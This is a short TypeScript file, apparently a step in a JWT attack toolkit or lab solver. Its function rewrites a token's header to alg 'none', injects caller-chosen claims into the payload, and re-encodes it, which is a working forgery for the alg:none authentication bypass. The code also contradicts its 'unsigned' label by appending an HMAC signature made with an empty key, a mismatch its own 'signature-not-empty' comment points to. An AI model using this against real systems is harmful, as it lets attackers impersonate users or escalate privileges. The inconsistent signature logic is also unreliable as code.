// diagnosis: signature-not-empty
// step: unsigned
import { encode } from '../jwt/base64url.ts'
import { hmacSha256 } from '../jwt/hmac.ts'
import { decodeJson, encodeJson } from '../jwt/json.ts'

export function forgeUnsigned(token: string, changes: Record<string, unknown>): string {
  const [header = '', payload = ''] = token.split('.')
  const input = `${encodeJson({ ...decodeJson(header), alg: 'none' })}.${encodeJson({ ...decodeJson(payload), ...changes })}`
  return `${input}.${encode(hmacSha256(new Uint8Array(0), new TextEncoder().encode(input)))}`
}
